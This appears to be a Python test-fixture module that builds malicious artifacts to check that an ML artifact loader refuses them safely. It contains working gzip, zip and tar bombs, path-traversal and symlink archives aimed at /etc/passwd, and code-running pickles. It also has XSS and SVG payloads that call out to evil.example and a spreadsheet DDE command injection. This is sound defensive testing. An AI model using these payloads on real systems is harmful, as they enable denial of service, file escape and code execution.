"""Artifacts that want to do harm, as a hostile server would hand them out. Sizes are those of real attacks.

Every case is made when it is asked for. `trace` is a file that code from the artifact would leave behind.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from tests.artifacts.shelf import Canary, archive, archive_of, npy, parquet

GIGA = 1_000_000_000


@dataclass(frozen=True)
class Case:
    """One artifact.

    Attributes:
        refused: The error that loading it raises, or several; "" where its content is harmless and loads.
        spared: What is not done to it, because it is honest work: to write 20 GB as CSV takes 20 GB.
    """

    data: bytes
    materializer: str
    data_type: str = "builtins.dict"
    refused: str = ""
    facts: dict[str, Any] = field(default_factory=dict)
    spared: tuple[str, ...] = ()


Make = Callable[[Path], Case]


def member(name: str, content: bytes = b"x", **facts: Any) -> tuple[tarfile.TarInfo, bytes]:
    made = tarfile.TarInfo(name)
    made.size = len(content)
    for key, value in facts.items():
        setattr(made, key, value)
    return made, content


def canary(trace: Path) -> bytes:
    return pickle.dumps(Canary(trace))


def tarred(*members: tuple[tarfile.TarInfo, bytes]) -> Make:
    return lambda trace: Case(archive_of(list(members)), "BuiltInMaterializer", refused="FormatError")


def scalar(text: bytes) -> Make:
    return lambda trace: Case(archive({"data.json": text}), "BuiltInContainerMaterializer", refused="FormatError")


def repeated(head: bytes, unit: bytes, times: int, tail: bytes = b"") -> bytes:
    """A gzip of `head`, so many times `unit`, and `tail`; the unit is compressed once, whatever it is repeated to."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)  # what comes after one refers to nothing before it
    once = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    check = zlib.crc32(head)
    for _ in range(times):
        check = zlib.crc32(unit, check)
    size = (len(head) + len(unit) * times + len(tail)) % 2**32
    return gzip.compress(b"")[:10] + start + once * times + end + struct.pack("<II", zlib.crc32(tail, check), size)


def bomb(trace: Path) -> Case:
    """10 GB of zeros in a tar.gz of 10 MB, honestly declared in its header."""
    header = member("data.json")[0]
    header.size = 10 * GIGA
    return Case(
        repeated(header.tobuf(), bytes(10_000_000), 1_000, bytes(1024)), "BuiltInMaterializer", refused="TooLargeError"
    )


def lying_bomb(trace: Path) -> Case:
    """A small file in front, then zeros for ever behind the end."""
    header, content = member("data.json", b"5")
    head = header.tobuf() + content.ljust(512, b"\0") + bytes(1024)
    return Case(repeated(head, bytes(10_000_000), 1_000), "BuiltInMaterializer", refused="FormatError")


def million(trace: Path) -> Case:
    """A million members."""
    thousands = member("d", b"", type=tarfile.DIRTYPE)[0].tobuf() * 10_000
    return Case(repeated(b"", thousands, 100, bytes(1024)), "BuiltInMaterializer", refused="TooLargeError")


def absurd_parquet(trace: Path) -> Case:
    """A parquet file whose footer claims 2**40 rows of one value."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    held = io.BytesIO()
    table = pa.table({"x": pa.array([0] * 1_000, pa.int64())})
    pq.write_table(table, held, compression="gzip", use_dictionary=True, write_statistics=False)
    # The thrift varints of 1,000 (zigzag 2,000) become those of 2**40 in every place of the footer.
    whole = held.getvalue()
    length = struct.unpack("<I", whole[-8:-4])[0]
    body, footer = whole[: -8 - length], whole[-8 - length : -8]
    footer = footer.replace(varint(2_000), varint(2 * 2**40))
    claimed = body + footer + struct.pack("<I", len(footer)) + b"PAR1"
    return Case(
        archive({"df.parquet.gzip": claimed}), "PandasMaterializer", "pandas.DataFrame", "FormatError|TooLargeError"
    )


def varint(number: int) -> bytes:
    """Encode a number as thrift's compact protocol does."""
    made = bytearray()
    while True:
        low, number = number & 0x7F, number >> 7
        made.append(low | (0x80 if number else 0))
        if not number:
            return bytes(made)


def wide_parquet(trace: Path) -> Case:
    """A parquet file of 60 kB with 20 GB inside: one long text twenty million times."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    held = io.BytesIO()
    column = pa.DictionaryArray.from_arrays(pa.array(np.zeros(20_000_000, "int8")), pa.array(["x" * 1_000]))
    pq.write_table(pa.table({"x": column}), held, compression="gzip", store_schema=False)
    files = archive({"df.parquet.gzip": held.getvalue()})
    return Case(files, "PandasMaterializer", "pandas.DataFrame", "TooLargeError", spared=("scan", "csv"))


def absurd_npy(trace: Path) -> Case:
    """An array whose header claims a petabyte."""
    header = str({"descr": "<f8", "fortran_order": False, "shape": (2**47,)}).encode().ljust(117) + b"\n"
    content = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(64)
    return Case(archive({"data.npy": content}), "NumpyMaterializer", "numpy.ndarray", "FormatError|TooLargeError")


def object_npy(trace: Path) -> Case:
    """An array of objects, one of which runs code when unpickled."""
    array = np.empty(1, dtype=object)
    array[0] = Canary(trace)
    held = io.BytesIO()
    np.save(held, array, allow_pickle=True)
    return Case(archive({"data.npy": held.getvalue()}), "NumpyMaterializer", "numpy.ndarray", "UntrustedError")


def pickled(trace: Path) -> Case:
    """A pickle that opens a file for writing."""
    return Case(archive({"artifact.pkl": canary(trace)}), "CloudpickleMaterializer", "x.Y", "UntrustedError")


def pickled_inside(trace: Path) -> Case:
    """The same, as an element of an element of a list."""
    inner = [{"path": "/s/0/0", "type": "x.Y", "materializer": "zenml.materializers.CloudpickleMaterializer"}]
    outer = [
        {"path": "/s/0", "type": "builtins.list", "materializer": "zenml.materializers.BuiltInContainerMaterializer"}
    ]
    files = {
        "metadata.json": json.dumps(outer).encode(),
        "0/metadata.json": json.dumps(inner).encode(),
        "0/0/artifact.pkl": canary(trace),
    }
    return Case(archive(files), "BuiltInContainerMaterializer", "builtins.list", "UntrustedError")


def swapped(trace: Path) -> Case:
    """A pickle that is not the one whose hash the server has: not even trust opens it."""
    facts = {"content_hash": "0" * 64}
    return Case(
        archive({"artifact.pkl": canary(trace)}), "CloudpickleMaterializer", "x.Y", "UntrustedError", facts=facts
    )


def missing_module(trace: Path) -> Case:
    """A pickle of a class from a module that nobody has."""
    return Case(
        archive({"artifact.pkl": b"cno_such_module_anywhere\nThing\n."}),
        "CloudpickleMaterializer",
        "x.Y",
        "UntrustedError",
    )


def torch_module(trace: Path) -> Case:
    """A PyTorch file whose pickle runs code."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as packed:
        packed.writestr("archive/data.pkl", canary(trace))
        packed.writestr("archive/version", "3\n")
    files = {"entire_model.pt": held.getvalue(), "checkpoint.pt": held.getvalue()}
    return Case(archive(files), "PyTorchModuleMaterializer", "torch.nn.modules.module.Module", "UntrustedError")


def joblib_file(trace: Path) -> Case:
    """A joblib file, which is a pickle too."""
    return Case(archive({"model.joblib": canary(trace)}), "TheirsMaterializer", "x.Model", "UntrustedError")


def report(html: str) -> Make:
    return lambda trace: Case(
        archive({"output.html": html.replace("TRACE", str(trace)).encode()}), "StructuredStringMaterializer",
        "zenml.types.HTMLString",
    )  # fmt: skip


def formulas(trace: Path) -> Case:
    """A table whose texts a spreadsheet would run."""
    cells = pd.DataFrame(
        {"=1+1": ['=HYPERLINK("http://evil.example","x")', f"=cmd|'/c touch {trace}'!A1", "@SUM(1)", "-2+3"]}
    )
    return Case(archive({"df.parquet.gzip": parquet(cells)}), "PandasMaterializer", "pandas.DataFrame")


def strange_names(trace: Path) -> Case:
    """Files with names of every kind, which no format knows."""
    names = ["a\nb", "<b>bold</b>", "\x1b[31mred", "n" * 200, "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe"]
    return Case(archive(dict.fromkeys(names, b"x")), "NobodysMaterializer")


def absurd_image(trace: Path) -> Case:
    """A PNG whose header claims 60,000 x 60,000 pixels."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(head)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return Case(
        archive({"image_file.PNG": png}), "PillowImageMaterializer", "PIL.Image.Image", "FormatError|TooLargeError"
    )


def zip_bomb(trace: Path) -> Case:
    """A sparse matrix whose npz unpacks to gigabytes."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        head = str({"descr": "|u1", "fortran_order": False, "shape": (2 * GIGA,)}).encode().ljust(117) + b"\n"
        with packed.open("data.npy", "w", force_zip64=True) as stream:
            stream.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head)
            for _ in range(200):
                stream.write(bytes(10_000_000))
        packed.writestr("format.npy", npy(np.array(b"csr")))
        for name in ("indices", "indptr", "shape"):
            packed.writestr(f"{name}.npy", npy(np.array([1, 1])))
    return Case(
        archive({"data.npz": held.getvalue()}),
        "SparseMaterializer",
        "scipy.sparse._csr.csr_matrix",
        "FormatError|TooLargeError",
    )


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://evil.example\')"><script>alert(1)</script></svg>'
CASES: dict[str, Make] = {
    "a member that leads up": tarred(member("../../escaped")),
    "an absolute member": tarred(member("/tmp/zenexplore-escaped")),
    "a symbolic link": tarred(member("data.json", b"", type=tarfile.SYMTYPE, linkname="/etc/passwd")),
    "a link, then a file through it": tarred(
        member("out", b"", type=tarfile.SYMTYPE, linkname="/tmp"), member("out/zenexplore-escaped")
    ),
    "a hard link": tarred(member("data.json", b"", type=tarfile.LNKTYPE, linkname="/etc/passwd")),
    "a device": tarred(member("data.json", b"", type=tarfile.CHRTYPE, devmajor=1, devminor=5)),
    "a fifo": tarred(member("data.json", b"", type=tarfile.FIFOTYPE)),
    "a name of 4 kB": tarred(member("n" * 4096)),
    "a million members": million,
    "a gzip bomb": bomb,
    "a gzip bomb behind the end": lying_bomb,
    "no archive at all": lambda trace: Case(b"\0" * 1_000, "BuiltInMaterializer", refused="FormatError"),
    "an empty answer": lambda trace: Case(b"", "BuiltInMaterializer", refused="FormatError"),
    "JSON 100,000 deep": scalar(b"[" * 100_000 + b"]" * 100_000),
    "JSON that is cut": scalar(b'{"a": [1, 2'),
    "a number of a million digits": scalar(b"9" * 1_000_000),
    "a parquet of 2**40 rows": absurd_parquet,
    "a parquet of 20 GB": wide_parquet,
    "an array of a petabyte": absurd_npy,
    "an array of objects": object_npy,
    "a pickle": pickled,
    "a pickle in a container": pickled_inside,
    "a pickle that was swapped": swapped,
    "a pickle of a missing module": missing_module,
    "a PyTorch file": torch_module,
    "a joblib file": joblib_file,
    "an image of 60,000 pixels": absurd_image,
    "a zip bomb": zip_bomb,
    "HTML with a script": report("<script>document.title='TRACE'</script><p onclick='alert(1)'>hello</p>"),
    "HTML that leaves its frame": report('"></iframe><script>alert(1)</script><img src=x onerror=alert(1)>'),
    "HTML with links elsewhere": report('<link rel=stylesheet href=//evil.example><img src="http://evil.example/TRACE">'),
    "HTML with an SVG": report(SVG),
    "a table of formulas": formulas,
    "names of every kind": strange_names,
}  # fmt: skip

# Whose code trust="pickle" runs, with the library that it takes to open them.
RUNNING = {
    "an array of objects": "",
    "a pickle": "",
    "a pickle in a container": "",
    "a PyTorch file": "torch",
    "a joblib file": "joblib",
}
